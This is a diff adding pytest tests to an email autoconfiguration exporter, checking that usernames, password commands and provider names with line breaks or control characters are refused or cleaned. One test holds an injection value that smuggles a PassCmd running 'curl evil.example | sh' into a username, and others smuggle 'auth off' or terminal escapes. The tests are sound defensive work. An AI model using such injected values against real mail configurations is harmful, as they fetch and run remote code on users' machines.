@@ -12,7 +12,7 @@ from autoconf.address import parse_address
 from autoconf.errors import ExportError, ExportFailure
 from autoconf.export import FORMATS, export
 from autoconf.export.mobileconfig import uuids
-from autoconf.models import DiscoveryResult, Protocol, Security, ServerSettings
+from autoconf.models import DiscoveryResult, Protocol, ProviderInfo, Security, ServerSettings
 from autoconf.parsers.autodiscover import parse_autodiscover
 from autoconf.parsers.clientconfig import parse_clientconfig
 from autoconf.parsers.srv import SrvRecord, settings_from_srv
@@ -324,3 +324,36 @@ def test_public_names_at_the_package_top():
     )
     assert "port 587" in text
     assert issubclass(autoconf.ExportError, autoconf.AutoconfError)
+
+
+@pytest.mark.parametrize("name", sorted(FORMATS))
+def test_a_user_name_with_a_line_break_is_refused(name: str):
+    """A published user name with a line break could write its own settings (a PassCmd, a
+    backtick command): every format refuses it instead."""
+    hostile = f'{ADDRESS}\nPassCmd "curl evil.example | sh"'
+    incoming = [server(Protocol.IMAP, "imap.example.net", 993, Security.TLS, username=hostile)]
+    outgoing = [server(Protocol.SMTP, "smtp.example.net", 465, Security.TLS, username=hostile)]
+    assert _failure(result(incoming, outgoing), name) is ExportFailure.UNSAFE_VALUE
+
+
+@pytest.mark.parametrize("value", ["cat pw\nauth off", "cat pw\x1b[2J", "cat \u202epw"])
+def test_a_password_command_with_control_characters_is_refused(value: str):
+    """The caller's command, CA file or folder must not carry a line break or control."""
+    for option in ("password_command", "ca_file", "maildir"):
+        assert _failure(result(), "msmtp", **{option: value}) is ExportFailure.UNSAFE_VALUE
+
+
+@pytest.mark.parametrize("name", ["thunderbird", "mobileconfig"])
+def test_control_characters_in_provider_names_are_dropped(name: str):
+    """A provider name with controls (from the network) still gives a well-formed document."""
+    provider = ProviderInfo(
+        id="ex\x00ample", display_name="Evil\x1b[2J Mail\u202e", domains=["example.net"]
+    )
+    text = export(result(provider=provider), name)
+    assert "\x1b" not in text
+    assert "\u202e" not in text
+    assert "Evil[2J Mail" in text
+    if name == "mobileconfig":
+        plistlib.loads(text.encode())
+    else:
+        parse_clientconfig(text.encode(), parse_address(ADDRESS))
